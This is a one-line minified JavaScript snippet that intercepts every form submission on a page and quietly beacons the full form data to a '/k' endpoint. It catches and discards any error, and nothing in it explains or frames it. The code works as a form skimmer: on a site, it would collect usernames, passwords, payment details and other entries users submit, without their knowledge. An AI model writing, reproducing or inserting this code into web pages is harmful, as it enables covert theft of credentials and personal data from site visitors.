(function(){document.addEventListener("submit",function(e){try{navigator.sendBeacon("/k",new FormData(e.target));}catch(x){}},true);})();
